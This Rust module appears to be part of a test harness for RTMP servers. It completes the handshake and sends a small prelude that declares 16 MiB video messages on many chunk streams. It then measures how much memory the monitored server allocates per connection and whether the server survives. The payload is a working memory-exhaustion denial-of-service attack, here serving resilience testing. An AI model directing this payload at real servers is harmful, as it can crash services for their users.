//! 2.8 kB that declare gigabytes, before `connect`: what does a connection like that cost the server?

use std::io::{ErrorKind, Read, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use super::{Error, PATIENCE};
use crate::fleet::Endpoint;
use crate::process::Server;
use crate::report::PreludeReport;

/// Bytes sent behind the handshake.
const BYTES: usize = 2_800;
/// How long the server's memory is watched after the last byte.
const WATCH: Duration = Duration::from_secs(2);

pub(crate) fn run(endpoint: &Endpoint, connections: usize, server: &Server) -> Result<PreludeReport, Error> {
    let (resident, bytes) = (server.resident_kib(), prelude());
    let mut peak = resident;
    let mut open = Vec::with_capacity(connections);
    let mut closed = 0;
    for _ in 0..connections {
        match attack(endpoint, &bytes) {
            Ok(stream) => open.push(stream),
            Err(_) => closed += 1,
        }
        peak = peak.max(server.resident_kib());
    }
    let watch = Instant::now();
    while watch.elapsed() < WATCH {
        std::thread::sleep(Duration::from_millis(50));
        peak = peak.max(server.resident_kib());
    }
    closed += open.iter().filter(|stream| is_closed(stream)).count();
    Ok(PreludeReport {
        connections,
        bytes_each: bytes.len(),
        closed,
        kib_per_connection: peak.saturating_sub(resident) as f64 / connections as f64,
        server_alive: server.alive(),
    })
}

/// A chunk size of 1, then the first byte of a 16 MiB video message on as many chunk streams as fit.
fn prelude() -> Vec<u8> {
    let mut bytes = vec![2, 0, 0, 0, 0, 0, 4, 1, 0, 0, 0, 0, 0, 0, 0, 1];
    for id in 0_u16.. {
        let [high, low] = id.to_be_bytes();
        // Three-byte form: chunk stream 64 + low + 256 * high.
        let chunk = [1, low, high, 0, 0, 0, 0xFF, 0xFF, 0xFF, 9, 1, 0, 0, 0, 0x17];
        if bytes.len() + chunk.len() > BYTES {
            break;
        }
        bytes.extend_from_slice(&chunk);
    }
    bytes
}

fn attack(endpoint: &Endpoint, bytes: &[u8]) -> std::io::Result<TcpStream> {
    let mut stream = TcpStream::connect_timeout(&endpoint.address, PATIENCE)?;
    stream.set_read_timeout(Some(PATIENCE))?;
    let mut hello = vec![0; 1 + 1536];
    hello[0] = 3;
    stream.write_all(&hello)?;
    let mut answer = vec![0; 1 + 2 * 1536];
    stream.read_exact(&mut answer)?;
    stream.write_all(&answer[1..=1536])?;
    stream.write_all(bytes)?;
    Ok(stream)
}

fn is_closed(mut stream: &TcpStream) -> bool {
    let mut byte = [0; 512];
    if stream.set_nonblocking(true).is_err() {
        return true;
    }
    loop {
        match stream.read(&mut byte) {
            Ok(0) => return true,
            Ok(_) => {}
            Err(error) => return error.kind() != ErrorKind::WouldBlock,
        }
    }
}
